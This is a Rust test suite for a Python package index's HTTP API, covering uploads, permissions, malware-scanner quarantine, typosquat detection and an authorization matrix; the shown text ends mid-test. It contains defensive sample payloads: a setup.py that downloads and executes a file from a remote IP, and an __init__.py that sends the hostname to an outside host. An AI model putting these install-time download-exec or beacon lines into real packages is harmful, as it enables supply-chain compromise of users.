//! In-process tests of the HTTP API through the router, with a real database and blob storage per
//! test: SQLite and a folder, or with `PALISADE_TEST_LAYOUT=cluster` a fresh PostgreSQL database
//! and a fresh bucket on the S3-compatible server (the test script runs them both ways). The
//! end-to-end suite (tests/e2e) drives the real binary with real clients; these cover the rules
//! quickly and precisely.

use std::io::Write;
use std::net::SocketAddr;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Request, StatusCode, header};
use base64::Engine;
use http_body_util::BodyExt;
use palisade_core::Config;
use palisade_core::admin::tokens::TokenRequest;
use palisade_core::admin::users::NewAccount;
use palisade_core::admin::{self, Actor};
use palisade_server::AppState;
use tower::ServiceExt;

/// An account made as the administrator's CLI makes it.
async fn create_user(
    state: &AppState,
    name: &str,
    admin_: bool,
    email: Option<&str>,
    email_verified: bool,
    password: Option<&str>,
) -> Result<palisade_store::User, palisade_core::Error> {
    let new = NewAccount { name, admin: admin_, email, email_verified, password };
    admin::create_user(state, &Actor::cli(), new).await
}

/// A token made as the administrator's CLI makes it.
async fn create_token(
    state: &AppState,
    user: &str,
    projects: &[String],
    actions: &[String],
    expires_in: Option<std::time::Duration>,
    description: Option<&str>,
) -> Result<(i64, String), palisade_core::Error> {
    admin::create_token(state, &Actor::cli(), user, TokenRequest { projects, actions, expires_in, description }).await
}

struct TestApp {
    state: AppState,
    _dir: tempfile::TempDir,
}

/// Creates a bucket with a fresh name on the S3-compatible test server (moto checks no signature
/// on bucket creation).
async fn new_bucket(endpoint: &str) -> String {
    let name = format!("palisade-api-{}", &palisade_auth::hash_secret(&palisade_auth::random_token("", 16))[..16]);
    let r = reqwest::Client::new().put(format!("{endpoint}/{name}")).send().await.unwrap();
    assert!(r.status().is_success(), "creating bucket {name}: {}", r.status());
    name
}

struct Reply {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    body: Vec<u8>,
}

impl Reply {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    fn json(&self) -> serde_json::Value {
        serde_json::from_slice(&self.body).unwrap_or_else(|e| panic!("not JSON ({e}): {}", self.text()))
    }
}

impl TestApp {
    async fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut config = Config { data_dir: dir.path().to_path_buf(), max_upload_bytes: 200_000, ..Config::default() };
        if palisade_store::testing::cluster_layout() {
            config.database.url = Some(palisade_store::testing::fresh_postgres().await.into());
            let endpoint = std::env::var("PALISADE_TEST_S3_ENDPOINT")
                .expect("PALISADE_TEST_LAYOUT=cluster needs PALISADE_TEST_S3_ENDPOINT (the test script starts moto)");
            let bucket = new_bucket(&endpoint).await;
            config.storage.url = Some(format!("s3://{bucket}/palisade"));
            config.storage.endpoint = Some(endpoint);
            config.storage.region = Some("us-east-1".into());
            config.storage.access_key_id = Some("testing".into());
            config.storage.secret_access_key = Some("testing".to_string().into());
            config.storage.allow_http = Some(true);
        }
        let state = AppState::open(config).await.unwrap();
        Self { state, _dir: dir }
    }

    /// A user who meets the instance policy (verified email, a confirmed TOTP factor), and a
    /// user-wide token of theirs.
    async fn user(&self, name: &str, admin_: bool) -> String {
        let db = &self.state.db;
        let u = create_user(&self.state, name, admin_, Some(&format!("{name}@example.test")), true, None).await.unwrap();
        let factor = db.add_totp(u.id, "test", b"12345678901234567890").await.unwrap();
        assert!(db.use_totp_step(factor, 1, true).await.unwrap());
        create_token(&self.state, name, &[], &[], None, None).await.unwrap().1
    }

    async fn send(&self, mut req: Request<Body>) -> Reply {
        req.extensions_mut().insert(ConnectInfo(SocketAddr::from(([127, 0, 0, 1], 9))));
        let resp = palisade_server::router(self.state.clone()).oneshot(req).await.unwrap();
        let status = resp.status();
        let headers = resp.headers().clone();
        let body = resp.into_body().collect().await.unwrap().to_bytes().to_vec();
        Reply { status, headers, body }
    }

    async fn get(&self, uri: &str, accept: Option<&str>) -> Reply {
        let mut b = Request::get(uri);
        if let Some(a) = accept {
            b = b.header(header::ACCEPT, a);
        }
        self.send(b.body(Body::empty()).unwrap()).await
    }

    async fn upload(&self, token: Option<&str>, filename: &str, content: &[u8], extra: &[(&str, &str)]) -> Reply {
        let boundary = "xXxBoundaryxXx";
        let mut body = Vec::new();
        let sha = palisade_dist::Digests::of(content).sha256;
        let mut fields: Vec<(&str, String)> =
            vec![(":action", "file_upload".into()), ("protocol_version", "1".into()), ("sha256_digest", sha)];
        for (k, v) in extra {
            fields.retain(|(f, _)| f != k);
            fields.push((k, v.to_string()));
        }
        for (k, v) in &fields {
            write!(body, "--{boundary}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n").unwrap();
        }
        write!(body, "--{boundary}\r\nContent-Disposition: form-data; name=\"content\"; filename=\"{filename}\"\r\nContent-Type: application/octet-stream\r\n\r\n").unwrap();
        body.extend_from_slice(content);
        write!(body, "\r\n--{boundary}--\r\n").unwrap();
        let mut b = Request::post("/legacy/").header(header::CONTENT_TYPE, format!("multipart/form-data; boundary={boundary}"));
        if let Some(t) = token {
            let cred = base64::engine::general_purpose::STANDARD.encode(format!("__token__:{t}"));
            b = b.header(header::AUTHORIZATION, format!("Basic {cred}"));
        }
        self.send(b.body(Body::from(body)).unwrap()).await
    }

    fn tmp_is_empty(&self) -> bool {
        std::fs::read_dir(self._dir.path().join("tmp")).unwrap().next().is_none()
    }

    async fn blob_count(&self) -> usize {
        self.state.blobs.list().await.unwrap().len()
    }
}

fn wheel(name: &str, version: &str, meta_name: &str, meta_version: &str) -> Vec<u8> {
    wheel_with(name, version, meta_name, meta_version, "")
}

fn wheel_with(name: &str, version: &str, meta_name: &str, meta_version: &str, init: &str) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let o = zip::write::SimpleFileOptions::default();
        let di = format!("{name}-{version}.dist-info");
        z.start_file(format!("{name}/__init__.py"), o).unwrap();
        z.write_all(init.as_bytes()).unwrap();
        z.start_file(format!("{di}/METADATA"), o).unwrap();
        write!(z, "Metadata-Version: 2.1\nName: {meta_name}\nVersion: {meta_version}\nRequires-Python: >=3.8\n").unwrap();
        z.start_file(format!("{di}/WHEEL"), o).unwrap();
        z.write_all(b"Wheel-Version: 1.0\n").unwrap();
        z.start_file(format!("{di}/RECORD"), o).unwrap();
        z.write_all(b"").unwrap();
        z.finish().unwrap();
    }
    buf.into_inner()
}

const JSON: &str = "application/vnd.pypi.simple.v1+json";

/// What, token, filename, content, extra form fields, expected status, expected text.
type Case<'a> = (&'a str, Option<&'a str>, &'a str, Vec<u8>, Vec<(&'a str, &'a str)>, StatusCode, &'a str);

/// A password login session of `name` for an hour (as `POST /api/login` makes one): its secret.
async fn login_session(db: &palisade_store::Db, name: &str) -> String {
    let secret = palisade_auth::random_token("palsess_", 32);
    let uid = db.user_by_name(name).await.unwrap().id;
    db.create_session(palisade_store::NewSession {
        user_id: uid,
        hash: &palisade_auth::hash_secret(&secret),
        stage: "active",
        expires_at: palisade_store::now_micros() + 3_600_000_000,
        addr: Some("127.0.0.1"),
        user_agent: None,
        method: Some("password"),
    })
    .await
    .unwrap();
    secret
}

#[tokio::test]
async fn upload_then_index_and_download() {
    let app = TestApp::new().await;
    let token = app.user("alice", false).await;
    let whl = wheel("demo_pkg", "1.0", "Demo-Pkg", "1.0");
    let r = app
        .upload(
            Some(&token),
            "demo_pkg-1.0-py3-none-any.whl",
            &whl,
            &[("name", "demo-pkg"), ("version", "1.0"), ("filetype", "bdist_wheel")],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());

    let page = app.get("/simple/demo-pkg/", Some(JSON)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(page.headers[header::CONTENT_TYPE], JSON);
    let v = page.json();
    let file = &v["files"][0];
    assert_eq!(file["filename"], "demo_pkg-1.0-py3-none-any.whl");
    assert_eq!(file["hashes"]["sha256"], palisade_dist::Digests::of(&whl).sha256);
    assert_eq!(file["size"], whl.len());
    assert_eq!(v["versions"], serde_json::json!(["1.0"]));

    // ETag round trip.
    let etag = page.headers[header::ETAG].to_str().unwrap().to_string();
    let mut req =
        Request::get("/simple/demo-pkg/").header(header::ACCEPT, JSON).header(header::IF_NONE_MATCH, &etag).body(Body::empty()).unwrap();
    req.extensions_mut();
    assert_eq!(app.send(req).await.status, StatusCode::NOT_MODIFIED);

    // Download and metadata.
    let dl = app.get("/files/demo_pkg-1.0-py3-none-any.whl", None).await;
    assert_eq!(dl.status, StatusCode::OK);
    assert_eq!(dl.body, whl);
    let meta = app.get("/files/demo_pkg-1.0-py3-none-any.whl.metadata", None).await;
    assert_eq!(palisade_dist::sha256_hex(&meta.body), file["core-metadata"]["sha256"].as_str().unwrap());

    // Redirects and 404s.
    let r = app.get("/simple/Demo_Pkg/", None).await;
    assert_eq!(r.status, StatusCode::MOVED_PERMANENTLY);
    assert_eq!(r.headers[header::LOCATION], "/simple/demo-pkg/");
    assert_eq!(app.get("/simple/nope/", None).await.status, StatusCode::NOT_FOUND);
    assert_eq!(app.get("/simple/demo-pkg/", Some("application/json")).await.status, StatusCode::NOT_ACCEPTABLE);

    // JSON API.
    let j = app.get("/pypi/demo-pkg/json", None).await.json();
    assert_eq!(j["info"]["version"], "1.0");
    assert_eq!(j["info"]["requires_python"], ">=3.8");
    assert_eq!(j["urls"][0]["digests"]["sha256"], file["hashes"]["sha256"]);
    assert!(app.tmp_is_empty());
}

#[tokio::test]
async fn rejections_leave_nothing_behind() {
    let app = TestApp::new().await;
    let token = app.user("alice", false).await;
    let good = wheel("demo", "1.0", "demo", "1.0");
    let cases: Vec<Case> = vec![
        ("no credentials", None, "demo-1.0-py3-none-any.whl", good.clone(), vec![], StatusCode::UNAUTHORIZED, "authentication required"),
        ("not a token", Some("pal_nope"), "demo-1.0-py3-none-any.whl", good.clone(), vec![], StatusCode::FORBIDDEN, "not a Palisade token"),
        ("bad filename", Some(&token), "demo.whl", good.clone(), vec![], StatusCode::BAD_REQUEST, "invalid filename"),
        ("egg", Some(&token), "demo-1.0-py3.11.egg", good.clone(), vec![], StatusCode::BAD_REQUEST, "invalid filename"),
        (
            "wrong digest",
            Some(&token),
            "demo-1.0-py3-none-any.whl",
            good.clone(),
            vec![("sha256_digest", "00")],
            StatusCode::BAD_REQUEST,
            "does not match",
        ),
        (
            "corrupt zip",
            Some(&token),
            "demo-1.0-py3-none-any.whl",
            b"PK\x03\x04garbage".to_vec(),
            vec![],
            StatusCode::BAD_REQUEST,
            "not a readable zip",
        ),
        (
            "metadata name",
            Some(&token),
            "demo-1.0-py3-none-any.whl",
            wheel("demo", "1.0", "other", "1.0"),
            vec![],
            StatusCode::BAD_REQUEST,
            "Name",
        ),
        (
            "metadata version",
            Some(&token),
            "demo-1.0-py3-none-any.whl",
            wheel("demo", "1.0", "demo", "2.0"),
            vec![],
            StatusCode::BAD_REQUEST,
            "Version",
        ),
        (
            "form name",
            Some(&token),
            "demo-1.0-py3-none-any.whl",
            good.clone(),
            vec![("name", "other")],
            StatusCode::BAD_REQUEST,
            "form's name",
        ),
        ("too large", Some(&token), "demo-1.0-py3-none-any.whl", vec![0u8; 300_000], vec![], StatusCode::PAYLOAD_TOO_LARGE, "limit"),
        ("path in filename", Some(&token), "../demo-1.0-py3-none-any.whl", good.clone(), vec![], StatusCode::BAD_REQUEST, "path"),
    ];
    for (what, tok, filename, content, extra, status, needle) in cases {
        let r = app.upload(tok, filename, &content, &extra).await;
        assert_eq!(r.status, status, "{what}: {}", r.text());
        assert!(r.text().contains(needle), "{what}: {:?} lacks {needle:?}", r.text());
        assert!(app.tmp_is_empty(), "{what}: tmp/ not empty");
        assert_eq!(app.blob_count().await, 0, "{what}: a blob was left");
    }
    assert_eq!(app.get("/simple/demo/", None).await.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn permissions_and_reuse() {
    let app = TestApp::new().await;
    let alice = app.user("alice", false).await;
    let bob = app.user("bob", false).await;
    let (_, scoped) = create_token(&app.state, "alice", &["other".into()], &[], None, None).await.unwrap();
    let whl = wheel("demo", "1.0", "demo", "1.0");
    let f = "demo-1.0-py3-none-any.whl";

    let r = app.upload(Some(&scoped), f, &whl, &[]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
    assert_eq!(app.upload(Some(&alice), f, &whl, &[]).await.status, StatusCode::OK);
    // Identical re-upload is a no-op; anything else under the name is refused.
    assert_eq!(app.upload(Some(&alice), f, &whl, &[]).await.status, StatusCode::OK);
    let other = wheel("demo", "1.0", "demo", "1.0.0");
    let r = app.upload(Some(&alice), f, &other, &[]).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.text().starts_with("File already exists"), "{}", r.text());
    // Bob has no role on demo.
    let r = app.upload(Some(&bob), "demo-1.0-py2-none-any.whl", &wheel("demo", "1.0", "demo", "1.0"), &[]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
    // A revoked token stops working.
    let tokens = app.state.db.list_tokens(Some("alice")).await.unwrap();
    app.state.db.revoke_token(tokens[0].id, "test").await.unwrap();
    let r = app.upload(Some(&alice), "demo-1.0-py2-none-any.whl", &whl, &[]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(r.text().contains("revoked"));
    // Removal keeps the name reserved.
    app.state.db.remove_file(&app.state.blobs, f, "test").await.unwrap();
    let admin_token = app.user("root", true).await;
    let r = app.upload(Some(&admin_token), f, &whl, &[]).await;
    assert!(r.text().starts_with("File already exists"), "{}", r.text());
}

#[tokio::test]
async fn health_and_metrics() {
    let app = TestApp::new().await;
    assert_eq!(app.get("/healthz", None).await.status, StatusCode::OK);
    app.get("/simple/", None).await;
    let m = app.get("/metrics", None).await.text();
    assert!(m.contains("palisade_http_requests_total{route=\"/simple/\",method=\"GET\",status=\"200\"} 1"), "{m}");
}

fn sdist(name: &str, version: &str, setup_py: &str) -> Vec<u8> {
    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (p, c) in [
        ("PKG-INFO", format!("Metadata-Version: 2.2\nName: {name}\nVersion: {version}\nSummary: test\n")),
        ("setup.py", setup_py.to_string()),
    ] {
        let mut h = tar::Header::new_gnu();
        h.set_size(c.len() as u64);
        h.set_mode(0o644);
        t.append_data(&mut h, format!("{name}-{version}/{p}"), c.as_bytes()).unwrap();
    }
    t.into_inner().unwrap().finish().unwrap()
}

async fn api(app: &TestApp, method: &str, uri: &str, token: Option<&str>) -> Reply {
    let mut b = Request::builder().method(method).uri(uri);
    if let Some(t) = token {
        b = b.header(header::AUTHORIZATION, format!("Bearer {t}"));
    }
    app.send(b.body(Body::empty()).unwrap()).await
}

#[tokio::test]
async fn malicious_uploads_are_refused_and_recorded() {
    let app = TestApp::new().await;
    let token = app.user("mallory", false).await;
    let setup = "import os, urllib.request\nurllib.request.urlretrieve('http://203.0.113.9/x', '/tmp/x')\nos.system('/tmp/x')\n";
    let r = app.upload(Some(&token), "evil_pkg-1.0.tar.gz", &sdist("evil_pkg", "1.0", setup), &[]).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.text());
    assert!(r.text().contains("malware scanner") && r.text().contains("py-install-download-exec"), "{}", r.text());
    assert_eq!(app.get("/simple/evil-pkg/", None).await.status, StatusCode::NOT_FOUND);
    assert_eq!(app.blob_count().await, 0);
    assert!(app.tmp_is_empty());
    let rejected = app.state.db.rejections(10).await.unwrap();
    assert_eq!(rejected[0].filename, "evil_pkg-1.0.tar.gz");
    assert_eq!(rejected[0].verdict, "malicious");
}

#[tokio::test]
async fn suspicious_uploads_are_quarantined_and_reviewed() {
    let app = TestApp::new().await;
    let owner = app.user("olivia", false).await;
    let other = app.user("oscar", false).await;
    let admin_token = app.user("root", true).await;
    let clean = wheel("beacon", "1.0", "beacon", "1.0");
    assert_eq!(app.upload(Some(&owner), "beacon-1.0-py3-none-any.whl", &clean, &[]).await.status, StatusCode::OK);
    let init = "import socket, requests\nrequests.post('https://example.invalid/c', data=socket.gethostname())\n";
    let held = wheel_with("beacon", "2.0", "beacon", "2.0", init);
    let f = "beacon-2.0-py3-none-any.whl";
    let r = app.upload(Some(&owner), f, &held, &[]).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());

    // Not listed, not installable, not downloadable by strangers.
    let v = app.get("/simple/beacon/", Some(JSON)).await.json();
    assert_eq!(v["versions"], serde_json::json!(["1.0"]));
    assert_eq!(v["files"].as_array().unwrap().len(), 1);
    assert_eq!(v["project-status"]["status"], "active");
    assert_eq!(app.get(&format!("/files/{f}"), None).await.status, StatusCode::NOT_FOUND);
    assert_eq!(app.get("/pypi/beacon/2.0/json", None).await.status, StatusCode::NOT_FOUND);
    let mut req = Request::get(format!("/files/{f}")).header(header::AUTHORIZATION, format!("Bearer {other}")).body(Body::empty()).unwrap();
    req.extensions_mut();
    assert_eq!(app.send(req).await.status, StatusCode::NOT_FOUND);
    // The owner can fetch it and read the report; only an administrator decides.
    let mut req = Request::get(format!("/files/{f}")).header(header::AUTHORIZATION, format!("Bearer {owner}")).body(Body::empty()).unwrap();
    req.extensions_mut();
    assert_eq!(app.send(req).await.body, held);
    let q = api(&app, "GET", "/api/quarantine", Some(&owner)).await.json();
    assert_eq!(q["files"][0]["filename"], f);
    assert_eq!(api(&app, "GET", "/api/quarantine", Some(&other)).await.json()["files"], serde_json::json!([]));
    let rep = api(&app, "GET", &format!("/api/quarantine/{f}"), Some(&owner)).await.json();
    assert_eq!(rep["reports"][0]["verdict"], "suspicious");
    assert!(rep["reports"][0]["report"]["findings"].as_array().unwrap().iter().any(|x| x["rule"] == "py-import-exfil-hostinfo"));
    assert_eq!(api(&app, "GET", "/api/quarantine", None).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(api(&app, "POST", &format!("/api/quarantine/{f}/release"), Some(&owner)).await.status, StatusCode::FORBIDDEN);
    let r = api(&app, "POST", &format!("/api/quarantine/{f}/release"), Some(&admin_token)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let v = app.get("/simple/beacon/", Some(JSON)).await.json();
    assert_eq!(v["files"].as_array().unwrap().len(), 2);
    let rep = api(&app, "GET", &format!("/api/quarantine/{f}"), Some(&admin_token)).await.json();
    assert_eq!(rep["reports"][0]["decision"], "released");
    assert_eq!(rep["reports"][0]["decided_by"], "root");
    // Releasing twice is a 404: nothing is quarantined any more.
    assert_eq!(api(&app, "POST", &format!("/api/quarantine/{f}/release"), Some(&admin_token)).await.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn confirmed_files_are_kept_unserved_recorded_and_reserved() {
    let app = TestApp::new().await;
    let owner = app.user("olivia", false).await;
    let admin_token = app.user("root", true).await;
    let init = "import socket, requests\nrequests.post('https://example.invalid/c', data=socket.gethostname())\n";
    let f = "newbeacon-1.0-py3-none-any.whl";
    assert_eq!(app.upload(Some(&owner), f, &wheel_with("newbeacon", "1.0", "newbeacon", "1.0", init), &[]).await.status, StatusCode::OK);
    // The project's only file is held, so the whole project is quarantined (PEP 792).
    let v = app.get("/simple/newbeacon/", Some(JSON)).await.json();
    assert_eq!(v["project-status"]["status"], "quarantined");
    assert_eq!(app.get("/pypi/newbeacon/json", None).await.status, StatusCode::NOT_FOUND);
    let r = api(&app, "POST", &format!("/api/quarantine/{f}/confirm"), Some(&admin_token)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let record = r.json()["record"].as_str().expect("an OSV record id").to_string();
    assert!(record.starts_with("x_PALISADE-"), "{record}");
    // Kept as evidence: administrators may fetch it, nobody else (the owner neither).
    assert_eq!(app.blob_count().await, 1);
    let anonymous = app.get(&format!("/files/{f}"), None).await;
    assert_eq!(anonymous.status, StatusCode::FORBIDDEN);
    assert!(anonymous.text().contains(&record), "{}", anonymous.text());
    assert_eq!(api(&app, "GET", &format!("/files/{f}"), Some(&owner)).await.status, StatusCode::FORBIDDEN);
    assert_eq!(api(&app, "GET", &format!("/files/{f}"), Some(&admin_token)).await.status, StatusCode::OK);
    // The record is served, and blocks the release: a clean file of it is refused, naming it.
    let served = app.get(&format!("/osv/PyPI/{record}.json"), None).await.json();
    assert_eq!(served["affected"][0]["package"]["name"], "newbeacon");
    let r =
        app.upload(Some(&owner), "newbeacon-1.0.tar.gz", &sdist("newbeacon", "1.0", "from setuptools import setup\nsetup()\n"), &[]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
    assert!(r.text().contains(&record), "{}", r.text());
    // A removal deletes the bytes; the name stays reserved.
    assert_eq!(api(&app, "DELETE", &format!("/api/projects/newbeacon/files/{f}"), Some(&admin_token)).await.status, StatusCode::OK);
    assert_eq!(app.blob_count().await, 0);
    let r = app.upload(Some(&owner), f, &wheel("newbeacon", "1.0", "newbeacon", "1.0"), &[]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
}

#[tokio::test]
async fn typosquatted_new_projects_are_quarantined() {
    let app = TestApp::new().await;
    let token = app.user("t", false).await;
    let r = app.upload(Some(&token), "reqeusts-1.0-py3-none-any.whl", &wheel("reqeusts", "1.0", "reqeusts", "1.0"), &[]).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let v = app.get("/simple/reqeusts/", Some(JSON)).await.json();
    assert_eq!(v["project-status"]["status"], "quarantined");
    let rep = app.state.db.reports("reqeusts-1.0-py3-none-any.whl").await.unwrap();
    assert_eq!(rep[0].outcome, "quarantined");
    assert!(rep[0].report.contains("meta-typosquat"));
}

#[tokio::test]
async fn hosted_names_are_protected_but_numbered_families_are_not() {
    let app = TestApp::new().await;
    let token = app.user("t", false).await;
    for n in ["acme-billing", "acme-svc-1"] {
        let f = format!("{}-1.0-py3-none-any.whl", n.replace('-', "_"));
        assert_eq!(app.upload(Some(&token), &f, &wheel(&n.replace('-', "_"), "1.0", n, "1.0"), &[]).await.status, StatusCode::OK);
    }
    // A numbered sibling is published; a one-letter look-alike is held.
    let r = app.upload(Some(&token), "acme_svc_2-1.0-py3-none-any.whl", &wheel("acme_svc_2", "1.0", "acme-svc-2", "1.0"), &[]).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(app.get("/simple/acme-svc-2/", Some(JSON)).await.json()["files"].as_array().unwrap().len(), 1);
    let r = app.upload(Some(&token), "acme_biling-1.0-py3-none-any.whl", &wheel("acme_biling", "1.0", "acme-biling", "1.0"), &[]).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(app.get("/simple/acme-biling/", Some(JSON)).await.json()["project-status"]["status"], "quarantined");
    let rep = app.state.db.reports("acme_biling-1.0-py3-none-any.whl").await.unwrap();
    assert!(rep[0].report.contains("hosted project"), "{}", rep[0].report);
}

async fn api_json(app: &TestApp, method: &str, uri: &str, token: Option<&str>, body: serde_json::Value) -> Reply {
    let mut b = Request::builder().method(method).uri(uri).header(header::CONTENT_TYPE, "application/json");
    if let Some(t) = token {
        b = b.header(header::AUTHORIZATION, format!("Bearer {t}"));
    }
    app.send(b.body(Body::from(body.to_string())).unwrap()).await
}

/// The authorization matrix: every mutating (and owner-only) endpoint against every kind of
/// caller. Each row states the expected status per actor, in the order of `ACTORS`.
#[tokio::test]
async fn authorization_matrix() {
    const ACTORS: [&str; 10] = [
        "anonymous",
        "other user",
        "maintainer",
        "owner",
        "admin",
        "token for another project",
        "expired token",
        "revoked token",
        "owner's login session",
        "admin's login session",
    ];
    let app = TestApp::new().await;
    let db = &app.state.db;
    let owner = app.user("owen", false).await;
    let maintainer = app.user("maya", false).await;
    let other = app.user("oscar", false).await;
    let admin_token = app.user("ada", true).await;
    app.user("carol", false).await;
    assert_eq!(
        app.upload(Some(&owner), "demo-1.0-py3-none-any.whl", &wheel("demo", "1.0", "demo", "1.0"), &[]).await.status,
        StatusCode::OK
    );
    assert_eq!(
        app.upload(Some(&other), "elsewhere-1.0-py3-none-any.whl", &wheel("elsewhere", "1.0", "elsewhere", "1.0"), &[]).await.status,
        StatusCode::OK
    );
    db.set_role("demo", "maya", palisade_store::Role::Maintainer, "test").await.unwrap();
    let (_, scoped) = create_token(&app.state, "owen", &["elsewhere".into()], &[], None, None).await.unwrap();
    let (_, expired) = create_token(&app.state, "owen", &[], &[], Some(std::time::Duration::from_secs(1)), None).await.unwrap();
    let (revoked_id, revoked) = create_token(&app.state, "owen", &[], &[], None, None).await.unwrap();
    db.revoke_token(revoked_id, "test").await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let owner_session = login_session(db, "owen").await;
    let admin_session = login_session(db, "ada").await;
    let tokens: [Option<&str>; 10] = [
        None,
        Some(&other),
        Some(&maintainer),
        Some(&owner),
        Some(&admin_token),
        Some(&scoped),
        Some(&expired),
        Some(&revoked),
        Some(&owner_session),
        Some(&admin_session),
    ];

    use StatusCode as S;
    const A: S = S::UNAUTHORIZED;
    const F: S = S::FORBIDDEN;
    const O: S = S::OK;
    const C: S = S::CREATED;
    const R: S = S::ACCEPTED;
    // Uploads go through the upload API, which takes API tokens only.
    const X: S = S::FORBIDDEN;
    let rows: Vec<(&str, [S; 10])> = vec![
        ("upload a file", [A, F, O, O, O, F, F, F, X, X]),
        ("yank a release", [A, F, O, O, O, F, F, F, O, O]),
        ("unyank a release", [A, F, O, O, O, F, F, F, O, O]),
        // Who may publish changes only with a login session: a leaked token cannot add owners
        // or publishers that outlive its revocation.
        ("give a role", [A, F, F, F, F, F, F, F, O, O]),
        ("remove a role", [A, F, F, F, F, F, F, F, O, O]),
        ("list roles", [A, F, F, O, O, F, F, F, O, O]),
        ("add a trusted publisher", [A, F, F, F, F, F, F, F, C, C]),
        ("remove a trusted publisher", [A, F, F, F, F, F, F, F, O, O]),
        ("remove a file", [A, F, F, O, O, F, F, F, O, O]),
        ("read the project's events", [A, F, F, O, O, F, F, F, O, O]),
        ("read the project's settings", [A, F, F, O, O, F, F, F, O, O]),
        // Lifting the attestation requirement would let a leaked token publish unattested.
        ("change the project's settings", [A, F, F, F, F, F, F, F, O, O]),
        // Authorized administrators get past the check to a 404: there is nothing to release.
        ("release a quarantined file", [A, F, F, F, S::NOT_FOUND, F, F, F, F, S::NOT_FOUND]),
        ("create an API token (needs a session)", [A, F, F, F, F, F, F, F, C, C]),
        // The owner's session registers it; the admin then meets the owner's pending name.
        ("register a pending publisher (needs a session)", [A, F, F, F, F, F, F, F, C, S::BAD_REQUEST]),
        // Any user may report any project (a token limited to other projects may not).
        ("report a project", [A, R, R, R, R, F, F, F, R, R]),
        ("read the reports", [A, F, F, F, O, F, F, F, F, O]),
    ];
    let mut failures = Vec::new();
    for (row, expected) in &rows {
        for (i, token) in tokens.iter().enumerate() {
            let version = format!("2.{}.{i}", rows.iter().position(|(r, _)| r == row).unwrap());
            let reply = match *row {
                "upload a file" => {
                    let f = format!("demo-{version}-py3-none-any.whl");
                    app.upload(*token, &f, &wheel("demo", &version, "demo", &version), &[]).await
                }
                "yank a release" => api(&app, "POST", "/api/projects/demo/releases/1.0/yank", *token).await,
                "unyank a release" => api(&app, "POST", "/api/projects/demo/releases/1.0/unyank", *token).await,
                "give a role" => {
                    api_json(&app, "PUT", "/api/projects/demo/roles/carol", *token, serde_json::json!({"role": "maintainer"})).await
                }
                "remove a role" => {
                    db.set_role("demo", "carol", palisade_store::Role::Maintainer, "test").await.unwrap();
                    api(&app, "DELETE", "/api/projects/demo/roles/carol", *token).await
                }
                "list roles" => api(&app, "GET", "/api/projects/demo/roles", *token).await,
                "add a trusted publisher" => {
                    let body = serde_json::json!({"github": {"repository": "acme/demo", "workflow": format!("release-{i}.yml")}});
                    api_json(&app, "POST", "/api/projects/demo/publishers", *token, body).await
                }
                "remove a trusted publisher" => {
                    let project = db.project("demo").await.unwrap().unwrap();
                    let spec = format!(
                        "{{\"kind\":\"github\",\"owner\":\"acme\",\"repository\":\"demo\",\"workflow\":\"rm-{i}.yml\",\"environment\":null,\"owner_id\":null,\"repository_id\":null}}"
                    );
                    let id = db
                        .add_publisher(Some(project.id), None, "https://token.actions.githubusercontent.com", &spec, None, None, None)
                        .await
                        .unwrap();
                    api(&app, "DELETE", &format!("/api/projects/demo/publishers/{id}"), *token).await
                }
                "remove a file" => {
                    let f = format!("demo-{version}-py3-none-any.whl");
                    assert_eq!(app.upload(Some(&admin_token), &f, &wheel("demo", &version, "demo", &version), &[]).await.status, S::OK);
                    api(&app, "DELETE", &format!("/api/projects/demo/files/{f}"), *token).await
                }
                "read the project's events" => api(&app, "GET", "/api/projects/demo/events", *token).await,
                "read the project's settings" => api(&app, "GET", "/api/projects/demo/settings", *token).await,
                "change the project's settings" => {
                    api_json(&app, "PUT", "/api/projects/demo/settings", *token, serde_json::json!({"require_attestations": false})).await
                }
                "release a quarantined file" => api(&app, "POST", "/api/quarantine/demo-9.9-py3-none-any.whl/release", *token).await,
                "create an API token (needs a session)" => {
                    api_json(&app, "POST", "/api/account/tokens", *token, serde_json::json!({"projects": ["demo"], "actions": ["upload"]}))
                        .await
                }
                "register a pending publisher (needs a session)" => {
                    let body = serde_json::json!({"project": "brand-new", "github": {"repository": "acme/new", "workflow": "release.yml"}});
                    api_json(&app, "POST", "/api/account/pending-publishers", *token, body).await
                }
                "report a project" => {
                    let body = serde_json::json!({"kind": "is_spam", "summary": format!("spam seen by caller {i}")});
                    api_json(&app, "POST", "/danger-api/projects/demo/observations", *token, body).await
                }
                "read the reports" => api(&app, "GET", "/api/reports", *token).await,
                other => unreachable!("{other}"),
            };
            if reply.status != expected[i] {
                failures.push(format!("{row} as {}: expected {}, got {} ({})", ACTORS[i], expected[i], reply.status, reply.text().trim()));
            }
        }
    }
    assert!(failures.is_empty(), "authorization matrix mismatches:\n{}", failures.join("\n"));
    // The owner's actions are in the project's event log, with the client address.
